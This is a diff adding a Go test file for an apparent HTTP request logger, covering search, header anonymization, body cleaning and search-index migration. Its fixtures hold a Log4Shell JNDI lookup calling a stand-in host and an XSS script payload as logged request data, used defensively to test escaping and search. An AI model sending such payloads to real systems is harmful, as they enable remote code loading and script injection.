@@ -0,0 +1,192 @@
+package database
+
+import (
+	"net/http"
+	"net/netip"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/dangogh/silver-eureka/internal/anonymize"
+)
+
+func TestSearch(t *testing.T) {
+	db := setupTestDB(t)
+	requests := []struct {
+		ip, url string
+		d       RequestDetails
+	}{
+		{"192.0.2.1", "/", RequestDetails{
+			UserAgent: "${jndi:ldap://evil.example/a}",
+			Headers:   http.Header{"X-Api-Version": {"${jndi:ldap://evil.example/b}"}},
+		}},
+		{"198.51.100.7", "/login", RequestDetails{
+			UserAgent: "curl/8.0",
+			Body:      []byte("user=admin&pass=<script>alert(1)</script>"),
+		}},
+		{"192.0.2.2", "/search?q=jndi", RequestDetails{UserAgent: "Mozilla/5.0", Listener: "alt", LocalPort: 8443}},
+	}
+	for _, r := range requests {
+		if err := db.LogRequestDetails(r.ip, r.url, r.d); err != nil {
+			t.Fatalf("Failed to log request: %v", err)
+		}
+	}
+
+	tests := []struct {
+		name   string
+		filter SearchFilter
+		want   []string // URLs, newest first
+	}{
+		{name: "words across columns", filter: SearchFilter{Query: "jndi:"}, want: []string{"/search?q=jndi", "/"}},
+		{name: "phrase", filter: SearchFilter{Query: "${jndi:ldap"}, want: []string{"/"}},
+		{name: "all words", filter: SearchFilter{Query: "jndi evil"}, want: []string{"/"}},
+		{name: "body", filter: SearchFilter{Query: "admin"}, want: []string{"/login"}},
+		{name: "IP prefix", filter: SearchFilter{Query: "jndi", IP: netip.MustParsePrefix("192.0.2.2/32")}, want: []string{"/search?q=jndi"}},
+		{name: "time range", filter: SearchFilter{Query: "jndi", Until: time.Now().Add(-time.Hour)}, want: nil},
+		{name: "limit", filter: SearchFilter{Query: "jndi", Limit: 1}, want: []string{"/search?q=jndi"}},
+		{name: "listener", filter: SearchFilter{Query: "jndi", Listener: "alt", Port: 8443}, want: []string{"/search?q=jndi"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			hits, err := db.Search(tt.filter)
+			if err != nil {
+				t.Fatalf("Search failed: %v", err)
+			}
+			if len(hits) != len(tt.want) {
+				t.Fatalf("Expected %d hits, got %+v", len(tt.want), hits)
+			}
+			for i, h := range hits {
+				if h.URL != tt.want[i] {
+					t.Errorf("Hit %d: expected %s, got %s", i, tt.want[i], h.URL)
+				}
+			}
+		})
+	}
+
+	// Snippets are escaped HTML with the matches marked
+	hits, err := db.Search(SearchFilter{Query: "alert"})
+	if err != nil {
+		t.Fatalf("Search failed: %v", err)
+	}
+	if len(hits) != 1 || !strings.Contains(hits[0].Snippet, "<mark>alert</mark>") || strings.Contains(hits[0].Snippet, "<script>") {
+		t.Errorf("Expected an escaped, highlighted snippet, got %+v", hits)
+	}
+
+	if _, err := db.Search(SearchFilter{Query: ": ${"}); err == nil {
+		t.Error("Expected a query without words to fail")
+	}
+
+	// Deleted logs leave the index
+	if _, err := db.PurgeBefore(time.Now().Add(time.Hour)); err != nil {
+		t.Fatalf("Failed to purge logs: %v", err)
+	}
+	if hits, err := db.Search(SearchFilter{Query: "jndi"}); err != nil || len(hits) != 0 {
+		t.Errorf("Expected no hits after purging, got %+v (%v)", hits, err)
+	}
+}
+
+func TestLogRequestDetails_ForwardingHeaders(t *testing.T) {
+	db := setupTestDB(t)
+	headers := http.Header{"X-Forwarded-For": {"203.0.113.9"}, "Accept": {"*/*"}}
+	if err := db.LogRequestDetails("203.0.113.9", "/raw", RequestDetails{Headers: headers}); err != nil {
+		t.Fatalf("Failed to log request: %v", err)
+	}
+	if err := db.SetAnonymizer(newAnonymizer(t, anonymize.Truncate)); err != nil {
+		t.Fatalf("SetAnonymizer failed: %v", err)
+	}
+	if err := db.LogRequestDetails("203.0.113.9", "/anonymized", RequestDetails{Headers: headers}); err != nil {
+		t.Fatalf("Failed to log request: %v", err)
+	}
+
+	stored := func(url string) string {
+		t.Helper()
+		var h string
+		if err := db.conn.QueryRow("SELECT headers FROM request_logs WHERE url = ?", url).Scan(&h); err != nil {
+			t.Fatalf("Failed to read headers: %v", err)
+		}
+		return h
+	}
+	if got := stored("/raw"); got != "Accept: */*\nX-Forwarded-For: 203.0.113.9\n" {
+		t.Errorf("Expected all headers stored raw, got %q", got)
+	}
+	if got := stored("/anonymized"); got != "Accept: */*\n" {
+		t.Errorf("Expected the forwarding header left out, got %q", got)
+	}
+
+	// Rewriting older logs drops their forwarding headers too
+	if _, err := db.AnonymizeBefore(time.Now().AddDate(0, 0, 1), newAnonymizer(t, anonymize.Truncate)); err != nil {
+		t.Fatalf("AnonymizeBefore failed: %v", err)
+	}
+	if got := stored("/raw"); got != "Accept: */*\n" {
+		t.Errorf("Expected the forwarding header scrubbed, got %q", got)
+	}
+	if hits, err := db.Search(SearchFilter{Query: "203.0.113.9"}); err != nil || len(hits) != 0 {
+		t.Errorf("Expected the scrubbed address gone from the index, got %+v (%v)", hits, err)
+	}
+}
+
+func TestBodyText(t *testing.T) {
+	tests := []struct {
+		name string
+		body []byte
+		want any
+	}{
+		{"not captured", nil, nil},
+		{"layout kept", []byte("{\n\t\"a\": 1\r\n}"), "{\n\t\"a\": 1\r\n}"},
+		{"other controls dropped", []byte("a\x00b\x1bc\x7f"), "abc"},
+		{"invalid UTF-8", []byte("a\xffb"), "a�b"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := bodyText(tt.body); got != tt.want {
+				t.Errorf("bodyText(%q) = %q, want %q", tt.body, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestMigrate_RebuildsFTS4SearchIndex(t *testing.T) {
+	db := setupTestDB(t)
+	if err := db.LogRequestDetails("192.0.2.1", "/", RequestDetails{UserAgent: "zgrab/0.x"}); err != nil {
+		t.Fatalf("Failed to log request: %v", err)
+	}
+
+	// Builds without the sqlite_fts5 tag used to index with FTS4
+	for _, stmt := range []string{
+		"DROP TRIGGER request_logs_search_insert",
+		"DROP TRIGGER request_logs_search_delete",
+		"DROP TRIGGER request_logs_search_update",
+		"DROP TABLE request_search",
+		`CREATE VIRTUAL TABLE request_search USING fts4(content="request_logs", url, user_agent, headers, body)`,
+		`CREATE TRIGGER request_logs_search_update_before BEFORE UPDATE OF url, user_agent, headers, body ON request_logs BEGIN
+			DELETE FROM request_search WHERE docid = OLD.id;
+		END`,
+		"INSERT INTO request_search (request_search) VALUES ('rebuild')",
+		"PRAGMA user_version = 13",
+	} {
+		if _, err := db.conn.Exec(stmt); err != nil {
+			t.Fatalf("%s failed: %v", stmt, err)
+		}
+	}
+
+	if _, err := db.Migrate(); err != nil {
+		t.Fatalf("Migrate failed: %v", err)
+	}
+	var ddl string
+	if err := db.conn.QueryRow("SELECT sql FROM sqlite_master WHERE name = 'request_search'").Scan(&ddl); err != nil {
+		t.Fatalf("Failed to read search index: %v", err)
+	}
+	if !strings.Contains(ddl, "fts5") {
+		t.Errorf("Expected an FTS5 index, got %s", ddl)
+	}
+	if err := db.LogRequestDetails("192.0.2.2", "/new", RequestDetails{UserAgent: "zgrab/0.x"}); err != nil {
+		t.Fatalf("Failed to log request: %v", err)
+	}
+	hits, err := db.Search(SearchFilter{Query: "zgrab"})
+	if err != nil {
+		t.Fatalf("Search failed: %v", err)
+	}
+	if len(hits) != 2 {
+		t.Errorf("Expected the old and new request found, got %+v", hits)
+	}
+}